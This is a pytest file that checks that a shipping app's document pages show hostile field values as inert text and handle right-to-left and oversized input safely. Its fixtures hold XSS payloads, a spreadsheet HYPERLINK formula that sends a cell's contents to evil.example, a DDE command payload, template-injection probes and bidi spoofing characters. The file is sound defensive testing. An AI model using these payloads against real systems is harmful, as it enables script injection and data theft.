"""What a document says is shown as it is, as text, whatever it was made to do."""

from __future__ import annotations

import pytest
from tests.desk.browser.conftest import Visit
from tests.desk.conftest import Office
from tests.support.browsers import Window

MARKUP = "<script>alert(1)</script><img src=x onerror=alert(1)><iframe src=//evil.example></iframe>"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Invoice") +cmd|\' /C calc\'!A0 @SUM(1+1)'
LINKS = "javascript:alert(1) http://evil.example/ data:text/html,<b>x</b>"
TEMPLATES = "{{ 7*7 }} ${7*7} {% raw %} <%= 7*7 %>"
ATTRIBUTES = '" onmouseover="alert(1)" autofocus x=\''
BIDI = "paid to \u202eknab elpmaxE\u202c \u2066left\u2069 \u200fright \u200b\u00ad\ufeffnone"
CONTROLS = "\u001b[31mred\u0007 \u0085"
CASES = {
    "markup": MARKUP, "formula": FORMULA, "links": LINKS, "templates": TEMPLATES, "attributes": ATTRIBUTES,
    "direction": BIDI, "controls": CONTROLS,
}  # fmt: skip
HUGE = 10_000_000


def pages_of(window: Window, bill: str) -> list[str]:
    return [f"{window.origin}/as/shipper/documents/{bill}{path}" for path in ("", "/ACCEPT")]


@pytest.mark.parametrize("text", CASES.values(), ids=CASES)
def test_a_hostile_value_is_text_and_does_nothing(office: Office, visit: Visit, text: str) -> None:
    bill = office.bill(termsAndConditions=f"begin {text} end")
    with visit("shipper") as (window, _):
        dialogs: list[str] = []
        window.page.on("dialog", lambda dialog: dialogs.append(dialog.message))
        for page in pages_of(window, bill):
            window.page.goto(page)
            shown = window.page.locator(".value", has_text="begin ").first.text_content()
            assert shown == f"begin {written_out(text)} end"
            assert window.page.locator("main script, main img, main iframe, main [onmouseover], main b").count() == 0
            assert window.page.locator("a[href^='http'], a[href^='javascript'], a[href^='data']").count() == 0
        assert dialogs == []
        assert window.troubles() == []


def written_out(text: str) -> str:
    """Characters that would turn, hide or command are written as ⟦U+202E⟧."""
    harmful = {
        "\u202e",
        "\u202c",
        "\u2066",
        "\u2069",
        "\u200f",
        "\u200b",
        "\u00ad",
        "\ufeff",
        "\u001b",
        "\u0007",
        "\u0085",
    }
    return "".join(f"⟦U+{ord(one):04X}⟧" if one in harmful else one for one in text)


def test_right_to_left_text_leaves_what_stands_beside_it_in_place(office: Office, visit: Visit) -> None:
    """A value in Arabic or Hebrew is shown in its own direction and turns neither its label nor the next line."""
    bill = office.bill(termsAndConditions="شروط الشحن 123 (تنازل)")
    with visit("shipper") as (window, _):
        window.page.goto(pages_of(window, bill)[0])
        value = window.page.locator(".value", has_text="شروط").first
        label = value.locator("xpath=ancestor::div[@role='group'][1]/div[@class='name']")
        box, row = value.bounding_box(), label.bounding_box()
        assert box
        assert row
        assert row["y"] + row["height"] <= box["y"]
        assert abs(row["x"] - box["x"]) < 1
        assert label.evaluate("(one) => getComputedStyle(one).direction") == "ltr"
        assert value.evaluate("(one) => getComputedStyle(one).unicodeBidi") in ("isolate", "plaintext")


def test_ten_megabytes_in_one_field_are_cut_and_not_signed_and_the_page_stays_usable(
    office: Office, visit: Visit
) -> None:
    bill = office.bill(unheardOf="x" * HUGE)
    with visit("shipper", viewport={"width": 375, "height": 800}) as (window, _):
        for page in pages_of(window, bill):
            window.page.goto(page)
            assert f"{HUGE - 5_000} more characters" in window.text()
            assert len(window.page.content()) < 200_000
            assert window.page.evaluate("document.documentElement.scrollWidth") <= 375
        assert window.page.is_visible("[role=alert]")
        assert window.page.locator("form[action$='/sign']").count() == 0
        assert window.troubles() == []


def test_ten_thousand_fields_are_cut_too(office: Office, visit: Visit) -> None:
    bill = office.bill(clauses=[f"clause {number}" for number in range(10_000)])
    with visit("shipper") as (window, _):
        window.page.goto(pages_of(window, bill)[0])
        assert "more fields" in window.text()
        assert window.page.locator("dd").count() < 3_000
